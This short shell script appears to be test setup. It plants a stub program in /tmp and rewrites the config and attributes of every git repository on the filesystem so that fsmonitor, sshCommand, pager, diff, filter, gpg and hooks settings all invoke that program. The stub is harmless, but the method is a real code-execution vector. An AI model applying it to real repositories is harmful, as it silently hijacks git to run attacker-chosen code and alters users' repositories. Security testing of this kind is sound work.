# Repositories whose configuration runs programs of the candidate.
printf '#!/bin/bash\necho pass\nexit 0\n' > /tmp/hostile
chmod 0755 /tmp/hostile
find / -xdev \( -name .git -o -name '*.git' \) -type d -not -path '/proc/*' 2>/dev/null | while IFS= read -r repository; do
  for line in 'core.fsmonitor /tmp/hostile' 'core.sshCommand /tmp/hostile' 'core.pager /tmp/hostile' 'core.hooksPath /tmp' \
    'diff.external /tmp/hostile' 'filter.x.clean /tmp/hostile' 'filter.x.smudge /tmp/hostile' 'gpg.program /tmp/hostile' 'core.worktree /tmp'; do
    git config --file "$repository/config" "${line%% *}" "${line#* }"
  done
  mkdir -p "$repository/info"
  echo '* filter=x diff=x' > "$repository/info/attributes"
done
exit 0
